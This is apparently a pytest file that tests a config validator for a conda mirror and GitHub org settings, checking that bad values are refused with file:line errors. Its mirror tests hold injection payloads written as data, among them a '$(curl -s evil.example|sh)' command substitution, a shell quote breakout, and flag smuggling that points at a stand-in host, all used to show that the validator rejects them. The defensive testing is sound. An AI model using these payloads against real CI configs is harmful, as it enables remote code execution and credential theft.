"""Config that validated but should not (issue 11): every case is refused by `validate` with file:line, exit 2."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

ORG = "stacks/acme/org.yaml"
FEED = "stacks/acme/feedstocks"
MIRROR = "stacks/mirror/mirror.yaml"


def write(root: Path, rel: str, data: str | bytes) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data)


def validate(cli, root: Path, expected: list[str]) -> str:
    result = cli("validate", "--root", str(root))
    assert result.code == 2, result.out + result.err
    for line in expected:
        assert line in result.err, f"{line!r} not in:\n{result.err}"
    assert "Traceback" not in result.err and "internal error" not in result.err
    return result.err


# --- the mirror's config reaches a workflow holding cloud credentials: values must fit a grammar


@pytest.mark.parametrize(
    "old, new, expected",
    [
        (  # the two payloads observed in issue 11
            "    source: https://conda.anaconda.org/bioconda\n",
            "    source: \"https://conda.anaconda.org/bioconda;$(curl -s evil.example|sh)\"\n",
            f"{MIRROR}:22: channels.1.source: 'https://conda.anaconda.org/bioconda;$(curl -s evil.example|sh)' is not a valid http(s) channel URL",
        ),
        (
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n    packages: [\"numpy*' ; id ; echo '\"]\n",
            f"{MIRROR}:24: channels.1.packages.0: \"numpy*' ; id ; echo '\" is not a valid package name glob",
        ),
        (
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
            "    subdirs: [noarch, \"linux-64 --to oci://evil.example/x\"]\n",
            f"{MIRROR}:23: channels.1.subdirs.1: 'linux-64 --to oci://evil.example/x' is not a valid subdir",
        ),
        (
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n    packages: [\"--to=oci://evil.example/x\"]\n",
            f"{MIRROR}:24: channels.1.packages.0: '--to=oci://evil.example/x' is not a valid package name glob",
        ),
        (  # credentials do not belong in a config file that is in git
            "    source: https://conda.anaconda.org/bioconda\n",
            "    source: https://user:secret@conda.anaconda.org/bioconda\n",
            f"{MIRROR}:22: channels.1.source: 'https://user:secret@conda.anaconda.org/bioconda' is not a valid http(s) channel URL",
        ),
        (  # a schedule is written into the workflow's YAML: no quote, no newline
            '  schedule: "17 */2 * * *"\n',
            '  schedule: "17 */2 * * \\"\\n  x: 1"\n',
            f"{MIRROR}:14: sync.schedule:",
        ),
        (
            "  branch: main\n",
            "  branch: \"main\\nfoo\"\n",
            f"{MIRROR}:13: sync.branch:",
        ),
    ],
    ids=["source-command-substitution", "package-quote-breakout", "subdir-with-space", "package-as-flag", "source-userinfo", "schedule-newline", "branch-newline"],
)
def test_hostile_mirror_values_are_refused(cli, workdir, old, new, expected):
    text = (workdir / MIRROR).read_text()
    assert old in text
    write(workdir, MIRROR, text.replace(old, new))
    validate(cli, workdir, [expected])


def test_plain_mirror_values_still_validate(cli, workdir):
    text = (workdir / MIRROR).read_text().replace(
        "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
        "    subdirs: [noarch, linux-64, emscripten-wasm32]\n    packages: [\"numpy*\", python-3.1?, _libgcc_mutex, r-base]\n",
    ).replace("    source: https://conda.anaconda.org/bioconda\n", "    source: \"http://127.0.0.1:8080/bio_conda/~x/%7E.y\"\n")
    write(workdir, MIRROR, text)
    result = cli("validate", "--root", str(workdir))
    assert result.code == 0, result.err


def test_a_mirror_file_that_is_a_folder_is_reported(cli, workdir):
    (workdir / MIRROR).unlink()
    (workdir / MIRROR).mkdir()
    validate(cli, workdir, [f"{MIRROR}:1: not a file"])


# --- item 5: org files


def test_no_owners(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text().replace("owners: [alice, bob]\n", "owners: []\n"))
    validate(cli, minimal, [f"{ORG}:4: owners: an org needs at least one owner"])


def test_org_file_that_is_a_folder_is_reported_not_dropped(cli, minimal):
    (minimal / ORG).unlink()
    (minimal / ORG).mkdir()
    validate(cli, minimal, [f"{ORG}:1: not a file"])


def test_org_file_that_is_a_dangling_link_is_reported(cli, minimal):
    (minimal / ORG).unlink()
    os.symlink(minimal / "nowhere.yaml", minimal / ORG)
    validate(cli, minimal, [f"{ORG}:1: not a file"])


@pytest.mark.parametrize("text", ["", "\n", "# all feedstocks moved out\n", "---\n"])
def test_an_empty_feedstock_file_is_an_error(cli, minimal, text):
    # An emptied file (a bot's failed write, a bad merge) would plan the removal of every feedstock
    # it held; to declare none, delete the file.
    write(minimal, f"{FEED}/a.yaml", text)
    write(minimal, f"{FEED}/b.yaml", "numpy: [alice]\n")
    validate(cli, minimal, [f"{FEED}/a.yaml:1: empty feedstock file: it declares no feedstocks; delete it if that is meant"])


REPO_TOOLS = "repositories:\n  tools:\n"


@pytest.mark.parametrize(
    "old, new, expected",
    [
        ("teams:\n", "teams:\n  " + "t" * 256 + ":\n    members: [carol]\n", f"{ORG}:7: teams: '{'t' * 256}' is longer than GitHub's 255 characters for a team name"),
        ("", "repositories:\n  " + "r" * 101 + ": {}\n", f"{ORG}:12: repositories.{'r' * 101}: '{'r' * 101}' is not a valid repository name"),
        ("", REPO_TOOLS + "    description: " + "d" * 351 + "\n", f"{ORG}:13: repositories.tools.description: String should have at most 350 characters"),
        ("", REPO_TOOLS + "    topics: [" + "t" * 51 + "]\n", f"{ORG}:13: repositories.tools.topics.0: '{'t' * 51}' is not a valid topic"),
        ("", REPO_TOOLS + "    topics: [Has-Capitals]\n", f"{ORG}:13: repositories.tools.topics.0: 'Has-Capitals' is not a valid topic"),
        ("", REPO_TOOLS + "    topics: [" + ", ".join(f"t{i}" for i in range(21)) + "]\n", f"{ORG}:13: repositories.tools.topics: List should have at most 20 items"),
        ("feedstocks:\n", "feedstocks:\n  topics: [" + "t" * 51 + "]\n", f"{ORG}:10: feedstocks.topics.0: '{'t' * 51}' is not a valid topic"),
    ],
    ids=["team-name", "repo-name", "repo-description", "topic-length", "topic-grammar", "topic-count", "feedstock-topic"],
)
def test_github_length_limits(cli, minimal, old, new, expected):
    text = (minimal / ORG).read_text()
    text = text + new if not old else text.replace(old, new, 1)
    write(minimal, ORG, text)
    validate(cli, minimal, [expected])


def test_a_feedstock_description_too_long_once_its_name_is_filled_in(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text() + "  description: \"" + "d" * 340 + " {name}\"\n")
    write(minimal, f"{FEED}/a.yaml", "numpy: [alice]\nabcdefghijk: [bob]\n")
    validate(cli, minimal, [f"{FEED}/a.yaml:2: feedstock 'abcdefghijk': its description is longer than GitHub's 350 characters"])


def test_a_feedstock_description_with_an_unknown_placeholder(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text() + "  description: \"{nmae} recipes\"\n")
    validate(cli, minimal, [f"{ORG}:11: feedstocks.description: only {{name}} may be filled in"])


def test_non_utf8_bytes_are_reported_at_their_line(cli, minimal):
    write(minimal, f"{FEED}/a.yaml", b"numpy: [alice]\nscipy: [bob]\npandas: [caf\xe9]\n")
    err = validate(cli, minimal, [f"{FEED}/a.yaml:3: not UTF-8: byte 0xe9 in column 13"])
    assert "position" not in err
